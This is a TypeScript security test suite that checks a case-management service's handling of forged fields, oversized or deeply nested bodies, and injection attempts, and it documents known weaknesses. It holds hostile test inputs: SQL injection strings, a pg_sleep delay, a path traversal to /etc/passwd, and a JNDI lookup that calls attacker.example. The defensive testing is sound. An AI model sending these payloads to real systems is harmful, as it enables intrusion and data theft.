import type { Role } from '@waypoint/contracts';
import { routeAccess, type RouteAccessEntry } from '@waypoint/service-kit';
import { expectCommandRoutesSurviveFuzzing } from '@waypoint/service-kit/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoJourneyIds, subjectOf, type Subject } from './support/demo-journey.js';
import { freshId, ORGS, SETUP_TIMEOUT, startWorld, type World } from './support/world.js';

/**
 * What a client sends is checked before anything else looks at it: fields only the service sets
 * are ignored or refused, ciphertext is never accepted from outside, bodies are bounded in size
 * and depth, and nothing in a query reaches a database as anything but a checked value.
 */
let world: World;
let subject: Subject;
/** Every id of the demo, none of which an unrelated organisation may ever be shown. */
let foreignIds: string[];

beforeAll(async () => {
  world = await startWorld({ demoJourneys: 4 });
  const subjects = await Promise.all(
    (await demoJourneyIds(world)).map((journeyId) => subjectOf(world, journeyId)),
  );
  subject =
    subjects[0] ??
    (() => {
      throw new Error('no demo journey');
    })();
  foreignIds = subjects.flatMap((one) => [
    one.journeyId,
    one.personId,
    ...one.referrals.map((r) => r.referralId),
  ]);
}, SETUP_TIMEOUT);
afterAll(async () => {
  await world.close();
}, SETUP_TIMEOUT);

/** Every role a command may need: one token passes every route's role check. */
const ALL_WRITERS: readonly Role[] = [
  'caseworker',
  'supervisor',
  'shelter_staff',
  'care_provider',
  'legal_advisor',
  'reintegration_officer',
  'auditor',
  'data_protection_officer',
  'admin',
];
const writer = () =>
  world.tokenFor({ sub: 'hardening-writer', org: ORGS.outreach, roles: ALL_WRITERS });

const commandRoutes = (): RouteAccessEntry[] =>
  routeAccess(world.embedded.app).filter(
    (route) => route.method === 'POST' && !('public' in route.access),
  );

/** Values that get a parameter past validation, so the one under attack is the one refused. */
const VALID_PARAMS: Readonly<Record<string, string>> = {
  key: 'gender',
  curve: 'time_to_shelter',
  file: 'funnel.svg',
  name: 'journey',
};
const REQUIRED_QUERY: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  '/persons': { givenName: 'Amara', familyName: 'Okafor' },
  '/journeys/:journeyId/as-of': { at: '2099-01-01' },
  '/reintegration/reviews/due': { before: '2099-01-01' },
  '/legal/reflection-periods/ending': { before: '2099-01-01' },
};

/**
 * A route's path for the demo journey. Other parameters are fresh ids, or with `valid` values a
 * read accepts (never for commands: a valid projection name would start a rebuild).
 */
const fill = (url: string, valid = false): string =>
  url.replace(
    /:([a-zA-Z]+)/g,
    (_match, name: string) =>
      ({ journeyId: subject.journeyId, personId: subject.personId })[name] ??
      (valid ? VALID_PARAMS[name] : undefined) ??
      freshId(),
  );

/** The route's URL with `name` set to `value` and every other parameter valid. */
function attack(route: string, name: string, value: string, where: 'query' | 'path'): string {
  const path =
    where === 'path'
      ? route.replace(/:([a-zA-Z]+)/g, (match, other: string) =>
          other === name ? encodeURIComponent(value) : fill(match, true),
        )
      : fill(route, true);
  const query = new URLSearchParams({ ...REQUIRED_QUERY[route] });
  if (where === 'query') query.set(name, value);
  const text = query.toString();
  return text === '' ? path : `${path}?${text}`;
}

async function lastPosition(): Promise<string> {
  let last = '';
  for await (const event of world.embedded.store.readAll()) last = event.position;
  return last;
}

async function lastEventOf(stream: string) {
  for await (const event of world.embedded.store.readStream(stream, {
    direction: 'backwards',
    maxCount: 1,
  }))
    return event;
  throw new Error(`${stream} is empty`);
}

const INFORMATION = { topic: 'rights', language: 'en', interpreterUsed: false } as const;

describe('fields a client may not set', () => {
  it('are ignored on a command: the store sets recordedAt, the token sets the actor, the service the rest', async () => {
    const response = await world.call({
      method: 'POST',
      url: `/journeys/${subject.journeyId}/information`,
      token: await world.demo('caseworker'),
      body: {
        ...INFORMATION,
        recordedAt: '1999-01-01T00:00:00.000Z',
        occurredAt: '1999-01-01T00:00:00.000Z',
        actor: { userId: 'forged-user', role: 'admin', orgId: ORGS.inspectorate },
        metadata: { actor: { userId: 'forged-user' }, legalBasis: 'forged' },
        revision: 999,
        position: '99999999999999999999',
        hash: 'forged',
        journeyId: freshId(),
        id: freshId(),
      },
    });
    expect(response.status, response.text).toBe(201);
    const event = await lastEventOf(`identification-${subject.journeyId}`);
    expect(event.type).toBe('InformationProvided');
    expect(event.data).toEqual(INFORMATION);
    expect(event.metadata.actor).toEqual({
      userId: 'demo-caseworker',
      role: 'caseworker',
      orgId: ORGS.outreach,
    });
    expect(event.metadata.recordedAt).not.toMatch(/^1999/);
    // When a recorded fact happened is the caller's to state (`occurredAt`, issue 14): it is kept.
    expect(event.metadata.occurredAt).toBe('1999-01-01T00:00:00.000Z');
    expect(JSON.stringify(event)).not.toContain('forged');
    expect(event.revision).toBeLessThan(999);
  });

  it("are ignored when opening a journey: the organisation is the caller's, the id the service's", async () => {
    const person = await world.call({
      method: 'POST',
      url: '/persons',
      token: await world.demo('caseworker'),
      body: {
        identity: { givenName: 'Opened', familyName: `Elsewhere-${freshId()}` },
        gender: 'Masculine',
        ageBand: '27-29',
        child: 'no',
        citizenship: ['NL'],
        languages: ['en'],
      },
    });
    expect(person.status, person.text).toBe(201);
    const { personId } = person.json as { personId: string };
    const forgedJourneyId = freshId();
    const response = await world.call({
      method: 'POST',
      url: '/journeys',
      token: await world.demo('caseworker'),
      body: {
        personId,
        jurisdiction: 'NL',
        journeyId: forgedJourneyId,
        openedByOrgId: ORGS.inspectorate,
        organisations: [ORGS.inspectorate],
      },
    });
    expect(response.status, response.text).toBe(201);
    const { journeyId } = response.json as { journeyId: string };
    expect(journeyId).not.toBe(forgedJourneyId);
    expect(
      await world.embedded.store.streamRevision(`identification-${forgedJourneyId}`),
    ).toBeNull();
    const opened = await lastEventOf(`identification-${journeyId}`);
    expect(JSON.stringify(opened)).not.toContain(ORGS.inspectorate);
    const inspector = await world.tokenFor({
      sub: 'inspector',
      org: ORGS.inspectorate,
      roles: ['caseworker'],
    });
    expect(
      (
        await world.call({
          method: 'GET',
          url: `/journeys/${journeyId}/identification`,
          token: inspector,
        })
      ).status,
    ).toBe(404);
  });

  it("are ignored when registering a person: the id and blind indexes are the service's", async () => {
    const forgedPersonId = freshId();
    const response = await world.call({
      method: 'POST',
      url: '/persons',
      token: await world.demo('caseworker'),
      body: {
        identity: { givenName: 'Mass', familyName: `Assignment-${freshId()}` },
        gender: 'Feminine',
        ageBand: '24-26',
        child: 'no',
        citizenship: ['NL'],
        languages: ['en'],
        personId: forgedPersonId,
        blindIndexes: { name: 'forged-index' },
        registeredByOrgId: ORGS.inspectorate,
      },
    });
    expect(response.status, response.text).toBe(201);
    expect((response.json as { personId: string }).personId).not.toBe(forgedPersonId);
    const registered = await lastEventOf(
      `person-${(response.json as { personId: string }).personId}`,
    );
    expect(JSON.stringify(registered)).not.toMatch(
      /forged-index|0193a000-0000-7000-8000-000000000005/,
    );
  });

  it('ciphertext envelopes ($enc) are refused on every command route, wherever they sit, and nothing is written', async () => {
    const token = await writer();
    const sealed = {
      $enc: 'aes-256-gcm/v1',
      subject: freshId(),
      category: 'notes',
      path: 'data.notes',
      iv: 'AAAA',
      ct: 'AAAA',
      tag: 'AAAA',
    };
    const routes = commandRoutes();
    expect(routes.length).toBeGreaterThan(60);
    const before = await lastPosition();
    const failures: string[] = [];
    for (const route of routes) {
      for (const body of [{ notes: sealed }, { deep: { list: [{ value: sealed }] } }]) {
        const response = await world.call({ method: 'POST', url: fill(route.url), token, body });
        const problem = response.json as { code?: string; field?: string };
        if (
          response.status !== 400 ||
          problem.code !== 'VALIDATION_FAILED' ||
          !String(problem.field).startsWith('body.')
        )
          failures.push(`${route.url}: ${String(response.status)} ${response.text.slice(0, 160)}`);
      }
    }
    expect(failures).toEqual([]);
    expect(await lastPosition()).toBe(before);
  });
});

describe('bodies', () => {
  it('larger than the limit are refused with 413 on every command route, unread when unauthenticated', async () => {
    const token = await writer();
    const oversized = JSON.stringify({ notes: 'x'.repeat(70_000) });
    const failures: string[] = [];
    for (const route of commandRoutes()) {
      const refused = await world.call({
        method: 'POST',
        url: fill(route.url),
        token,
        body: oversized,
        headers: { 'content-type': 'application/json' },
      });
      if (
        refused.status !== 413 ||
        (refused.json as { code?: string }).code !== 'PAYLOAD_TOO_LARGE'
      )
        failures.push(`${route.url}: ${String(refused.status)}`);
      const anonymous = await world.call({
        method: 'POST',
        url: fill(route.url),
        body: oversized,
        headers: { 'content-type': 'application/json' },
      });
      if (anonymous.status !== 401)
        failures.push(`anonymous ${route.url}: ${String(anonymous.status)}`);
    }
    expect(failures).toEqual([]);
  });

  const DEPTH = 10_000;
  const deepObjects = `${'{"a":'.repeat(DEPTH)}1${'}'.repeat(DEPTH)}`;
  const deepArrays = `{"notes":${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}}`;

  /** Each command route's answer to absurdly nested bodies, with the time it took. */
  async function nestedAnswers() {
    const token = await writer();
    const answers: { url: string; status: number; text: string; ms: number }[] = [];
    for (const route of commandRoutes()) {
      for (const body of [deepObjects, deepArrays]) {
        const started = Date.now();
        const response = await world.call({
          method: 'POST',
          url: fill(route.url),
          token,
          body,
          headers: { 'content-type': 'application/json' },
        });
        answers.push({
          url: route.url,
          status: response.status,
          text: response.text.slice(0, 160),
          ms: Date.now() - started,
        });
      }
    }
    return answers;
  }

  it('nested absurdly deep never get a 500 or a hang, on any command route or in a correction', async () => {
    const answers = await nestedAnswers();
    expect(answers.length).toBeGreaterThan(120);
    expect(answers.filter((answer) => answer.status >= 500 || answer.ms > 5_000)).toEqual([]);
    // A correction carries free-form data: the deepest place a body can go.
    const amended = await lastEventOf(`identification-${subject.journeyId}`);
    const deepReplacement = `{"amendedEventId":"${amended.id}","reasonCode":"data-entry-error","replacement":{"topic":"rights","language":"en","interpreterUsed":false,"extra":${deepObjects}}}`;
    const deepExplanation = `{"retractedEventId":"${amended.id}","reasonCode":"other","explanation":${deepObjects}}`;
    for (const [url, body] of [
      [`/journeys/${subject.journeyId}/amendments`, deepReplacement],
      [`/journeys/${subject.journeyId}/retractions`, deepExplanation],
    ] as const) {
      const response = await world.call({
        method: 'POST',
        url,
        token: await world.demo('caseworker'),
        body,
        headers: { 'content-type': 'application/json' },
      });
      expect(response.status, response.text).toBeLessThan(500);
    }
  });

  // WEAKNESS (docs/security.md, "Known weaknesses"): nesting depth is not limited. Routes whose
  // body has no required field (acceptances, completions, withdrawals, digests) accept a
  // 10,000-level body and drop it silently, and the ciphertext check stops looking below depth
  // 64. Flip to `it` once the kit refuses bodies nested deeper than a fixed limit.
  it('nested absurdly deep are refused with 400 on every command route', async () => {
    const answers = await nestedAnswers();
    expect(answers.filter((answer) => answer.status !== 400)).toEqual([]);
  });

  it('of any shape never get a 500 on any command route, and a refused one writes nothing', async () => {
    await expectCommandRoutesSurviveFuzzing({
      app: world.embedded.app,
      token: await writer(),
      params: { journeyId: subject.journeyId, personId: subject.personId },
      freshId,
      logPosition: lastPosition,
      minRoutes: 60,
      numRuns: 300,
    });
  });
});

describe('query and path parameters', () => {
  const INJECTIONS = [
    "' OR '1'='1",
    '1; DROP TABLE events; --',
    "x' UNION SELECT password FROM users --",
    '" OR ""="',
    "'||pg_sleep(10)--",
    '{"$ne":null}',
    '.*',
    '(a+)+$',
    '%',
    '_',
    '\\',
    '../../../../etc/passwd',
    '${jndi:ldap://attacker.example/a}',
    '\u0000',
    '9999-99-99',
    '-1',
    '1e309',
    'a'.repeat(5_000),
  ];

  /** A caller who may call the route but has no link to any demo journey. */
  async function outsiderFor(route: RouteAccessEntry): Promise<string> {
    if ('public' in route.access) throw new Error('public route');
    const roles = route.access.roles.filter((role) => role !== 'data_protection_officer');
    return world.tokenFor({
      sub: 'injector',
      // An organisation of the directory with no link to the demo journeys; the DPO role counts
      // only in the DPO organisation (outreach), where it sees everything anyway.
      org: roles.length > 0 ? ORGS.inspectorate : ORGS.outreach,
      roles: roles.length > 0 ? roles : ['data_protection_officer'],
    });
  }

  const seesEverything = (route: RouteAccessEntry) =>
    !('public' in route.access) &&
    route.access.roles.every((role) => role === 'data_protection_officer');

  async function queryParameters(): Promise<Map<string, string[]>> {
    const response = await world.call({ method: 'GET', url: '/openapi.json' });
    const document = response.json as {
      paths: Record<string, Record<string, { parameters?: { name: string; in: string }[] }>>;
    };
    const byRoute = new Map<string, string[]>();
    for (const [path, operations] of Object.entries(document.paths)) {
      const names = (operations.get?.parameters ?? [])
        .filter((p) => p.in === 'query')
        .map((p) => p.name);
      byRoute.set(path.replace(/\{(\w+)\}/g, ':$1'), names);
    }
    return byRoute;
  }

  async function attackEveryQuery(payloads: readonly string[]) {
    const parameters = await queryParameters();
    const failures: string[] = [];
    let tried = 0;
    for (const route of routeAccess(world.embedded.app)) {
      if (route.method !== 'GET' || 'public' in route.access) continue;
      const token = await outsiderFor(route);
      const names = (parameters.get(route.url) ?? []).filter((name) => name !== 'cursor');
      const pathNames = [...route.url.matchAll(/:([a-zA-Z]+)/g)].map((match) => match[1] ?? '');
      for (const payload of payloads) {
        const attempts = [
          ...names.map((name) => ({
            field: `querystring.${name}`,
            url: attack(route.url, name, payload, 'query'),
          })),
          ...pathNames.map((name) => ({
            field: `params.${name}`,
            url: attack(route.url, name, payload, 'path'),
          })),
        ];
        for (const attempt of attempts) {
          tried += 1;
          const started = Date.now();
          const response = await world.call({ method: 'GET', url: attempt.url, token });
          const where = attempt.url.slice(0, 140);
          const took = Date.now() - started;
          if (took > 5_000) failures.push(`${where}: took ${String(took)} ms`);
          if (response.status >= 500) failures.push(`${where}: ${String(response.status)}`);
          const named = (response.json as { field?: string } | undefined)?.field;
          if (response.status === 400 && named !== attempt.field)
            failures.push(`${where}: 400 names ${String(named)}, not ${attempt.field}`);
          if (
            response.status === 200 &&
            !seesEverything(route) &&
            foreignIds.some((id) => response.text.includes(id))
          )
            failures.push(`${where}: answered another organisation's data`);
        }
      }
    }
    return { tried, failures };
  }

  it('with injection attempts are refused with 400 naming the field, or answered with nothing from elsewhere, never a 500', async () => {
    const { tried, failures } = await attackEveryQuery(
      INJECTIONS.filter((payload) => !payload.includes('\u0000')),
    );
    expect(tried).toBeGreaterThan(500);
    expect(failures).toEqual([]);
  });

  // WEAKNESS (docs/security.md, "Known weaknesses"): a NUL byte in a free-text query parameter
  // (`/audit/access-log?userId=%00`) reaches PostgreSQL, which refuses it, and the answer is a
  // 500. Flip to `it` once the text parameters refuse control characters.
  it('with a NUL byte are refused with 400 naming the field, never a 500', async () => {
    const { tried, failures } = await attackEveryQuery(['\u0000', 'a\u0000b']);
    expect(tried).toBeGreaterThan(50);
    expect(failures).toEqual([]);
  });

  it('journey search filters: organisation, phase and dueBefore are refused with 400 naming the field', async () => {
    const token = await world.demo('caseworker');
    for (const [name, value] of [
      ['organisation', "' OR 1=1 --"],
      ['organisation', ORGS.outreach + "' OR '1'='1"],
      ['phase', "recovery' OR '1'='1"],
      ['dueBefore', "2024-01-01'; DROP TABLE summaries; --"],
      ['limit', '1 OR 1=1'],
    ] as const) {
      const response = await world.call({
        method: 'GET',
        url: `/journeys?${name}=${encodeURIComponent(value)}`,
        token,
      });
      expect(response.status, response.text).toBe(400);
      expect((response.json as { field: string }).field).toBe(`querystring.${name}`);
    }
  });

  it('an unrelated organisation filtering the journey search by another organisation gets nothing', async () => {
    const token = await world.tokenFor({
      sub: 'filterer',
      org: ORGS.inspectorate,
      roles: ['caseworker'],
    });
    for (const organisation of [ORGS.outreach, ORGS.shelter]) {
      const response = await world.call({
        method: 'GET',
        url: `/journeys?limit=200&organisation=${organisation}`,
        token,
      });
      expect(response.status).toBe(200);
      expect((response.json as { items: unknown[] }).items).toEqual([]);
    }
  });

  it('a cursor that is not one the service gave is refused with 400 naming the cursor', async () => {
    const token = await world.demo('caseworker');
    for (const cursor of [
      "'; DROP TABLE summaries; --",
      'not-base64!',
      Buffer.from('{"a":1}').toString('base64url'),
      Buffer.from('["a","b","c"]').toString('base64url'),
    ]) {
      for (const url of ['/journeys', `/journeys/${subject.journeyId}/timeline`]) {
        const response = await world.call({
          method: 'GET',
          url: `${url}?cursor=${encodeURIComponent(cursor)}`,
          token,
        });
        expect(response.status, response.text).toBe(400);
        expect((response.json as { field: string }).field).toBe('querystring.cursor');
      }
    }
  });

  // WEAKNESS (see docs/security.md, "Known weaknesses"): a cursor shaped like the service's own
  // (base64url of a two-string JSON array) is not checked further; its parts go to SQL casts
  // (::date, ::timestamptz, ::uuid) and a bad value fails there with a 500. Flip to `it` once
  // services/journey/src/read-model.ts validates the parts.
  it("a cursor shaped like the service's own but carrying bad values is refused with 400, not 500", async () => {
    const token = await world.demo('caseworker');
    const forged = (parts: string[]) => Buffer.from(JSON.stringify(parts)).toString('base64url');
    const failures: string[] = [];
    for (const parts of [
      ["' OR 1=1 --", 'x'],
      ['9999-99-99', freshId()],
      ['2024-01-01', "x' OR '1'='1"],
      ['a', 'b'],
    ]) {
      for (const url of ['/journeys', `/journeys/${subject.journeyId}/timeline`]) {
        const response = await world.call({
          method: 'GET',
          url: `${url}?cursor=${forged(parts)}`,
          token,
        });
        if (
          response.status !== 400 ||
          (response.json as { field?: string }).field !== 'querystring.cursor'
        )
          failures.push(`${url} ${JSON.stringify(parts)}: ${String(response.status)}`);
      }
    }
    expect(failures).toEqual([]);
  });
});

describe('every refusal of this suite', () => {
  it('leaks no stack, SQL, path or host', () => {
    expect(world.errors.count).toBeGreaterThan(500);
    expect(world.errors.leaks().slice(0, 5)).toEqual([]);
  });
});
